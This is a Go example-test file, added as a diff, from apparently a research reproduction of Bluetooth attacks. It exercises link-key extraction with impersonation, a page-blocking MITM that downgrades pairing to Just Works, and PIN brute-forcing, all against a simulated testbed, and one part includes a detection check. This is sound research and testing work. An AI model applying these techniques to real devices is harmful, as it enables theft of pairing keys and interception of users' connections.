@@ -1,0 +1,84 @@
+package core_test
+
+import (
+	"fmt"
+	"log"
+
+	"repro/internal/core"
+	"repro/internal/device"
+)
+
+// ExampleRunLinkKeyExtraction runs the Fig. 5 attack against a bonded
+// Android accessory and validates the stolen key by impersonation.
+func ExampleRunLinkKeyExtraction() {
+	tb, err := core.NewTestbed(10, core.TestbedOptions{
+		ClientPlatform: device.GalaxyS21Android11,
+		Bond:           true,
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	rep, err := core.RunLinkKeyExtraction(tb.Sched, core.LinkKeyExtractionConfig{
+		Attacker: tb.A,
+		Client:   tb.C,
+		Target:   tb.M.Addr(),
+		Channel:  core.ChannelHCISnoop,
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("key matches bond:", rep.Key == tb.BondKey)
+	fmt.Println("client disconnect:", rep.DisconnectReason)
+	fmt.Println("client kept bond:", rep.ClientKeptBond)
+
+	imp := core.RunImpersonation(tb.Sched, core.ImpersonationConfig{
+		Attacker:   tb.A,
+		Victim:     tb.M,
+		ClientAddr: tb.C.Addr(),
+		Key:        rep.Key,
+	})
+	fmt.Println("impersonation succeeded:", imp.Success)
+	// Output:
+	// key matches bond: true
+	// client disconnect: LMP Response Timeout
+	// client kept bond: true
+	// impersonation succeeded: true
+}
+
+// ExampleRunPageBlocking shows the deterministic MITM with its forensic
+// signature.
+func ExampleRunPageBlocking() {
+	tb, err := core.NewTestbed(21, core.TestbedOptions{})
+	if err != nil {
+		log.Fatal(err)
+	}
+	rep := core.RunPageBlocking(tb.Sched, core.PageBlockingConfig{
+		Attacker:   tb.A,
+		Client:     tb.C,
+		Victim:     tb.M,
+		VictimUser: tb.MUser,
+		UsePLOC:    true,
+	})
+	fmt.Println("MITM established:", rep.MITMEstablished)
+	fmt.Println("downgraded to Just Works:", rep.DowngradedToJustWorks)
+	verdict := core.CheckPairingRoles(tb.M.Host.Connection(tb.C.Addr()))
+	fmt.Println("role check suspicious:", verdict.Suspicious)
+	// Output:
+	// MITM established: true
+	// downgraded to Just Works: true
+	// role check suspicious: true
+}
+
+// ExampleAirSniffer_CrackPIN brute-forces a sniffed legacy pairing.
+func ExampleAirSniffer_CrackPIN() {
+	// See TestCrackPINRecoversPINAndKey for the full wiring; the candidate
+	// generator is the interesting part.
+	n := 0
+	core.FourDigitPINs(func(pin string) bool {
+		n++
+		return pin != "0042" // stop once the search would hit 0042
+	})
+	fmt.Println("candidates visited:", n)
+	// Output:
+	// candidates visited: 43
+}
